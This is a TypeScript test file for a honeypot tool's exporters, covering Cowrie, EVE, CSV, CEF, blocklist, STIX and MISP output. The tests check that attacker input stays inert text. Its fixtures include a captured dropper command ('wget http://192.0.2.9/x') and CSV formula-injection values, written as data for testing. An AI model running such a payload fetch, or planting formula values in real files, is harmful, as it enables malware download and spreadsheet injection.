// What other tools are given: the lines of each format, what must not be in them, and that attackers' text stays text.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { SessionInsight, Verdict } from '../../model/insight.ts';
import { MemoryStore } from '../memory-store.ts';
import { sampleSession } from '../store-contract.ts';
import { checkFindings, type ExportFormat, exportFormats, exportLines, type LineFormat } from './export.ts';

const start = 1_773_446_400_123_400;
const id = '1abcdefghjk12345678';

const session = sampleSession(start, {
  id,
  protocol: 'ssh',
  userName: '=1+1',
  password: 'a,"b"',
  credentials: [
    { userName: 'root', password: 'root', accepted: false },
    { userName: '=1+1', password: 'a,"b"', accepted: true },
  ],
});

const insight: SessionInsight = {
  id,
  start,
  source: session.source.ip,
  signatures: [
    {
      rule: 'dropper',
      name: 'A dropper | with = and \\',
      intention: 'malware',
      severity: 'high',
      tags: ['iot'],
      cves: ['CVE-2017-17215'],
      techniques: ['T1105'],
      captures: { url: 'http://192.0.2.9/x' },
    },
  ],
  facts: [
    { kind: 'client', value: 'SSH-2.0-Go' },
    { kind: 'command', value: 'wget http://192.0.2.9/x' },
    { kind: 'url', value: 'http://192.0.2.9/x' },
  ],
  family: '3fa9c1d2e4b5a697',
};

const verdict = (source: string, changes: Partial<Verdict> = {}): Verdict => ({
  id: `1abcdefghjk0000000${source.at(-1)}`,
  behaviour: 'port-scan',
  source,
  start,
  end: start + 1e6,
  severity: 'medium',
  confidence: 'certain',
  transport: 'tcp',
  hits: 20,
  ports: 20,
  hosts: 1,
  credentials: 0,
  techniques: ['T1046'],
  cves: [],
  evidence: ['20 ports of one decoy\nin 5 minutes'],
  records: [id],
  ...changes,
});

async function storeOf(): Promise<MemoryStore> {
  const store = new MemoryStore();
  const events = [{ kind: 'session', session } as const];
  const verdicts = [
    verdict('192.0.2.1'),
    verdict('192.0.2.2', { confidence: 'likely' }),
    verdict('192.0.2.3', { behaviour: 'research-scanner' }),
    verdict('192.0.2.4', { confidence: 'possible' }),
    verdict('2001:db8::5', { behaviour: 'exploitation', techniques: ['T1190', 'T1046'], cves: ['CVE-2017-17215'] }),
  ];
  const places = [{ ip: session.source.ip, country: 'NL', asn: 64_500, organization: 'Example, "B.V."' }];
  await store.apply(events, {}, { sessions: [insight], verdicts, families: [], places });
  return store;
}

async function textOf(format: LineFormat): Promise<string> {
  let text = '';
  for await (const piece of exportLines(await storeOf(), format, {}, start)) text += piece;
  return text;
}

const linesOf = async (format: LineFormat): Promise<Record<string, unknown>[]> =>
  (await textOf(format))
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);

test('Cowrie: a line for each thing that happened, in order, under one session', async () => {
  const lines = await linesOf('cowrie');
  assert.deepEqual(
    lines.map(({ eventid }) => eventid),
    [
      'cowrie.session.connect',
      'cowrie.client.version',
      'cowrie.login.failed',
      'cowrie.login.success',
      'cowrie.command.input',
      'cowrie.session.file_download.failed',
      'cowrie.session.closed',
    ],
  );
  assert.ok(lines.every((line) => line.session === id && line.src_ip === '192.0.2.1' && line.sensor === 'weir'));
  assert.deepEqual(
    [lines[0].dst_port, lines[0].protocol, lines[3].username, lines[4].input],
    [23, 'ssh', '=1+1', 'wget http://192.0.2.9/x'],
  );
  assert.equal(lines[6].timestamp, '2026-03-14T00:00:00.124400Z');
});

test('EVE: a flow, and an alert for the signature, with one flow identifier', async () => {
  const [flow, alert] = await linesOf('eve');
  assert.deepEqual(
    [flow.event_type, flow.src_ip, flow.dest_port, flow.proto, flow.app_proto],
    ['flow', '192.0.2.1', 23, 'TCP', 'ssh'],
  );
  assert.equal(flow.timestamp, '2026-03-14T00:00:00.124400+0000');
  assert.equal(alert.flow_id, flow.flow_id);
  assert.ok(Number.isSafeInteger(flow.flow_id));
  const { signature, severity, signature_id: number } = alert.alert as Record<string, unknown>;
  assert.deepEqual([signature, severity], ['WEIR A dropper | with = and \\', 1]);
  assert.ok(Number(number) >= 1_000_000 && Number(number) < 2_000_000);
});

test('CSV: one line each, quoted where it must be, never a formula', async () => {
  const [head, line, end] = (await textOf('csv')).split('\r\n');
  assert.equal(end, '');
  const names = head.split(',');
  assert.equal(names.length, 29);
  assert.ok(line.includes(`,"Example, ""B.V.""",`));
  assert.ok(line.includes(`,'=1+1,"a,""b""",`));
  assert.ok(line.endsWith(',3fa9c1d2e4b5a697,dropper,'));
});

test('CEF: verdicts and signatures; nothing escapes its field', async () => {
  const text = await textOf('cef');
  const lines = text.trimEnd().split('\n');
  assert.equal(lines.length, 6);
  const signature = lines.find((line) => line.includes('|dropper|'));
  assert.ok(signature?.startsWith('CEF:0|Weir|Weir|1|dropper|A dropper \\| with = and \\\\|9|'));
  assert.ok(signature?.includes(' suser=\\=1+1 '));
  assert.ok(
    lines.some((line) => line.includes('msg=20 ports of one decoy\\\\nin 5 minutes')),
    'a line end in evidence ends no line',
  );
});

test('a blocklist holds those who did harm and cannot be forged', async () => {
  const lines = (await textOf('blocklist')).trimEnd().split('\n');
  assert.deepEqual(
    lines.filter((line) => !line.startsWith('#')),
    ['2001:db8::5', '192.0.2.1'],
  );
  assert.match(lines[1], /^# 2 addresses;/);
});

test('STIX: every reference is to something in the bundle, identifiers are kept over time', async () => {
  const text = await textOf('stix');
  assert.equal(text, await textOf('stix'));
  const { objects } = JSON.parse(text) as { objects: Record<string, string>[] };
  const ids = objects.map((object) => object.id);
  assert.equal(new Set(ids).size, ids.length);
  for (const object of objects)
    for (const key of ['created_by_ref', 'source_ref', 'target_ref'])
      if (object[key] !== undefined) assert.ok(ids.includes(object[key]), object[key]);
  for (const one of ids) assert.match(one, /^[a-z-]+--[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  assert.deepEqual(
    objects.filter(({ type }) => type === 'indicator').map(({ pattern }) => pattern),
    ["[ipv6-addr:value = '2001:db8::5']", "[ipv4-addr:value = '192.0.2.1']", "[url:value = 'http://192.0.2.9/x']"],
  );
  assert.equal(objects.filter(({ type }) => type === 'relationship').length, 3);
});

test('MISP: one event with an attribute for each source and URL', async () => {
  const { Event: event } = JSON.parse(await textOf('misp')) as { Event: { date: string; Attribute: Record<string, unknown>[] } };
  assert.equal(event.date, '2026-03-14');
  assert.deepEqual(
    event.Attribute.map(({ type, value }) => [type, value]),
    [
      ['ip-src', '2001:db8::5'],
      ['ip-src', '192.0.2.1'],
      ['url', 'http://192.0.2.9/x'],
    ],
  );
});

test('every format of an empty store is a whole document of its kind', async () => {
  for (const format of (Object.keys(exportFormats) as ExportFormat[]).filter((name) => name !== 'parquet')) {
    let text = '';
    for await (const piece of exportLines(new MemoryStore(), format as LineFormat, {}, start)) text += piece;
    if (format === 'stix' || format === 'misp') JSON.parse(text);
    else if (format === 'csv' || format === 'blocklist') assert.ok(text.endsWith('\n'));
    else assert.equal(text, '');
  }
});

test('findings select in formats of sessions alone', () => {
  checkFindings({ country: 'NL' }, 'parquet', ['sessions']);
  checkFindings({}, 'stix', ['sessions']);
  for (const [format, kinds] of [
    ['blocklist', ['sessions']],
    ['cef', ['sessions']],
    ['jsonl', ['sessions', 'probes']],
  ] as const)
    assert.throws(() => checkFindings({ tag: 'iot' }, format, kinds), { code: 'bad-request' });
});
